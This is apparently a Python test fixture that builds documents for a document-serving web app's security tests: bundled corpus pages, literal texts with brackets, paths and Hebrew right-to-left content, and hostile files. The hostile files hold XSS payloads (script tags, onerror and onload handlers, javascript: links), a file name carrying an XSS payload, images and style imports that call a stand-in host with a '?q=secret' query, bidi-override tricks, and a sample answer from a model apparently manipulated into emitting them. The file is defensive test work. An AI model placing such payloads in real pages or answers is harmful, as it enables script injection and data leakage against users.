"""The documents that the served collections hold: some of the bundled pages, and what an attacker would write."""

from __future__ import annotations

import shutil
from pathlib import Path

ROOT = Path(__file__).parents[2]
ELSEWHERE = "http://elsewhere.example"  # any request to it is a failure; the name resolves nowhere

PAGES = (
    "en/ivfflat.md",
    "en/answers-and-citations.md",
    "en/windows-and-pooling.md",
    "zh/chunking.md",
    "zh/ivfflat.md",
)

# Each is what a browser would run, load or follow if the page let it. All set window.attacked where they run.
SCRIPT = "<script>window.attacked = true</script>"
IMAGE = f'<img src="{ELSEWHERE}/pixel.png" onerror="window.attacked = true">'
FRAME = f'<iframe src="{ELSEWHERE}/frame"></iframe><svg onload="window.attacked = true"></svg>'
LINK = "[open the keeper's log](javascript:window.attacked=true)"
PICTURE = f"![a map of the harbour]({ELSEWHERE}/map.png?q=secret)"
REFERENCE = (
    f"[mole]: {ELSEWHERE}/mole.png\n[quay]: {ELSEWHERE}/quay\n![the mole][mole] and [the quay][quay]\n\n"
    "![the mole again][mole]"
)
AUTOLINK = (
    f"<{ELSEWHERE}/auto> and {ELSEWHERE}/bare and <a href='{ELSEWHERE}/a' ping='{ELSEWHERE}/p'>here</a>"
)
BIDI = "The \u202eretnirp\u202c is not what it seems."
STYLE = f'<style>@import "{ELSEWHERE}/s.css"; body {{ display: none }}</style><base href="{ELSEWHERE}/">'

HARBOUR = f"""# Harbour {IMAGE} {SCRIPT}

The harbour lantern is lit at dusk by the keeper {SCRIPT} {IMAGE} with whale oil.

The harbour lantern is cleaned every Monday, see {LINK} and {PICTURE}.

{REFERENCE}

{AUTOLINK}

{FRAME}

{STYLE}

{BIDI}
"""

# A model that was talked into it writes the same into its answer.
HOSTILE_ANSWER = f"""The lantern is lit at dusk by the keeper with whale oil [1]. {SCRIPT} {IMAGE}

{LINK} {PICTURE}

{REFERENCE}

{AUTOLINK}

{FRAME}

{STYLE}

<button data-testid="citation-marker" onclick="window.attacked = true">1</button>

{BIDI} [99]
"""

# Texts whose own numbers and marks must stay what they are: a survey's references, paths, names in code.
SURVEY = """# A survey of quoll migration

Quolls migrate in spring, as was shown by field studies in two valleys [2].

Other authors found that quolls do not migrate at all [1].

The average quoll weighs 4 kilograms and lives in tree hollows.
"""
PATHS = r"""Installation notes for the Wombat agent

The configuration file of the Wombat agent is C:\new_folder\*_config\agent.ini on Windows.

The Wombat agent calls __init__ before __main__ and multiplies 2 * 3 * 4 to get its timeout.

The Wombat price is $5 to $10, see [1] and ~old~ price list at https://wombat.example/prices.
"""

# Right to left, with a list and a table, and one paragraph the other way.
MUSEUM_QUOTE = "המוזיאון נפתח בשעה תשע בבוקר (חוץ משבת)."
MUSEUM = f"""# מוזיאון העיר

{MUSEUM_QUOTE}

- כרטיס למבוגר עולה 40 שקל.
- ילדים נכנסים חינם.

| יום | שעה |
|---|---|
| ראשון | 9 |

The museum is closed on holidays (all of them).
"""

HOSTILE_NAME = "<img src=x onerror=window.attacked=true>.md"
BIDI_NAME = "report \u202egnp.md"

FAILED = {  # file name → reason code
    "broken.pdf": "parse_failed",
    "empty.md": "empty",
    "program.pages": "unsupported_type",
}


def write_bundled(folder: Path) -> None:
    """A few pages of the bundled corpus, in the same layout."""
    for name in PAGES:
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(ROOT / "corpus" / name, target)


def write_literal(folder: Path) -> None:
    """Documents that hold what looks like a marker or like Markdown."""
    folder.mkdir()
    (folder / "survey.md").write_text(SURVEY)
    (folder / "paths.txt").write_text(PATHS)
    (folder / "museum.md").write_text(MUSEUM)


def write_hostile(folder: Path) -> None:
    """Documents and file names that attack the page, and files that can't be read."""
    folder.mkdir()
    (folder / HOSTILE_NAME).write_text(HARBOUR)
    (folder / BIDI_NAME).write_text(
        f"# Tide \u202etable\n\nThe tide table hangs in the ferry office. {BIDI}\n"
    )
    (folder / "page.html").write_text(
        f"<html><head><title>{SCRIPT.replace('<', '&lt;')} Pilots</title></head><body><h1>Pilots</h1>"
        f"<p>The pilots of the estuary sleep aboard the cutter {IMAGE} &lt;script&gt;window.attacked=true"
        "&lt;/script&gt; in winter.</p></body></html>"
    )
    (folder / "broken.pdf").write_bytes(b"%PDF-1.7\nnothing that follows is a PDF")
    (folder / "empty.md").write_bytes(b"")
    (folder / "program.pages").write_bytes(bytes(range(256)))
